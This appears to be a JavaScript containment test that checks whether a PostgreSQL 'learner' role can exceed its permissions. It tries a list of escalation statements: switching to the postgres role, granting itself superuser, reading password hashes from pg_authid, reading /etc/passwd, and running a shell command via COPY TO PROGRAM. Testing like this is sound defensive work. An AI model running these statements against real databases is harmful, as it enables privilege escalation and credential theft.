// Asks PostgreSQL for more than a learner's role has: other roles, files, programs.
import("pg").then(async ({ default: pg }) => {
  const client = new pg.Client({ connectionString: process.env.DATABASE_URL });
  client.on("error", () => {});
  await client.connect();
  for (const statement of [
    "SET ROLE postgres",
    "ALTER ROLE learner SUPERUSER",
    "SELECT rolpassword FROM pg_authid",
    "SELECT pg_read_file('/etc/passwd')",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "CREATE EXTENSION plpython3u",
    "SELECT lo_import('/etc/passwd')",
  ]) {
    await client.query(statement).then(
      () => gotThrough(statement),
      () => {},
    );
  }
});
